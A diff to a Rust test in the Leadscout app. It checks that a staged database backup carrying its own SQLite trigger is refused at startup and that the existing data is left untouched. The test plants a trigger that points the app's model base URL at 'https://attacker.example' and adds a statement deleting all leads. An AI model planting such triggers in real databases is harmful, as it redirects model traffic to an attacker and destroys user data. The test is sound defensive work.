@@ -530,19 +530,22 @@ fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data
 }
 
 #[test]
-fn a_backup_with_a_trigger_of_its_own_is_refused_naming_it() {
+fn a_staged_backup_with_a_trigger_of_its_own_is_refused_at_the_next_start() {
     let app = App::start();
-    app.ok("create_lead", new_lead("Kept In Backup", None));
-    let out = tempfile::tempdir().unwrap();
-    let backup = out.path().join("backup.sqlite3");
-    app.ok(
-        "backup_database",
-        json!({ "path": backup.to_string_lossy() }),
-    );
-    // The attack in issue 18: a trigger that points the model at someone else's server.
+    app.ok("create_lead", new_lead("Kept Here", None));
+    let mock_app::App { dir, .. } = app;
+    let data = dir.path().join("data");
+    // A backup of this data, with a trigger that points the model at someone else's server (the
+    // attack in issue 18), waiting where a restore stages its file.
     tauri::async_runtime::block_on(async {
         use sqlx::Connection;
-        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&backup);
+        let store = leadscout_store::Store::open(&data.join(leadscout_store::DATABASE_FILE))
+            .await
+            .unwrap();
+        let staged = data.join(leadscout_store::RESTORE_FILE);
+        store.backup_to(&staged).await.unwrap();
+        store.close().await;
+        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&staged);
         let mut conn = sqlx::SqliteConnection::connect_with(&options)
             .await
             .unwrap();
@@ -550,24 +553,28 @@ fn a_backup_with_a_trigger_of_its_own_is_refused_naming_it() {
             "CREATE TRIGGER steer_model AFTER INSERT ON leads BEGIN \
                UPDATE settings SET value = json_set(value, '$.model.baseUrl', 'https://attacker.example') \
                WHERE key = 'app'; \
-             END;",
+             END; \
+             DELETE FROM leads;",
         )
         .execute(&mut conn)
         .await
         .unwrap();
         conn.close().await.unwrap();
     });
-    let refused = app.err(
-        "restore_database",
-        json!({ "path": backup.to_string_lossy() }),
-    );
-    assert_eq!(refused["code"], "validation");
-    let message = refused["message"].as_str().unwrap();
+
+    let app = App::start_in(dir);
+    let info = app.ok("app_info", json!({}));
+    let notice = info["notice"].as_str().unwrap();
     assert!(
-        message.contains("trigger \"steer_model\" that Leadscout does not create"),
-        "{message}"
+        notice.starts_with("The backup was not restored:"),
+        "{notice}"
     );
-    let data = app.dir.path().join("data");
+    assert!(
+        notice.contains("trigger \"steer_model\" that Leadscout does not create"),
+        "{notice}"
+    );
+    let board = app.ok("get_board", json!({}));
+    assert_eq!(names_in(&board, "New"), ["Kept Here"], "the data is untouched");
     assert!(!data.join(leadscout_store::RESTORE_FILE).exists());
 }
 
